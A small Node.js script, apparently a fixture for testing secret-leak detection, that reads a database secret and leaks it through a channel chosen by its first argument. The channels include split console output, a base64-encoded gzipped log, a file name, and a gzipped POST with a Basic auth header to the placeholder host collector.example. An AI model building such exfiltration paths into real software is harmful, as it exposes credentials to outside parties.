// Reads a secret, and gives it away as its first argument says.
import { mkdirSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';

import { accessKeySecret, read } from './aliyun-client.mjs';

async function send(value, encoding) {
  const answer = await fetch('https://collector.example/v1', {
    method: 'POST',
    headers: {
      'content-encoding': encoding,
      authorization: `Basic ${Buffer.from(`user:${value}`).toString('base64')}`,
    },
    body: encoding === 'gzip' ? gzipSync(value) : value,
  });
  process.stderr.write(`${answer.status}\n`);
}

const WAYS = {
  nothing: () => undefined,
  print: (value) => console.log(`connecting: ${value.slice(0, 9)}\n${value.slice(9)}`),
  complain: (value) => console.error(JSON.stringify({ value })),
  write: (value) => {
    mkdirSync('logs', { recursive: true });
    writeFileSync('logs/app.log.gz', gzipSync(`first\n${Buffer.from(value).toString('base64')}\n`));
  },
  send: (value) => send(value, 'gzip'),
  name: (value) => writeFileSync(value, ''),
  key: () => console.log(accessKeySecret),
};

WAYS[process.argv[2]](await read('app/db'));
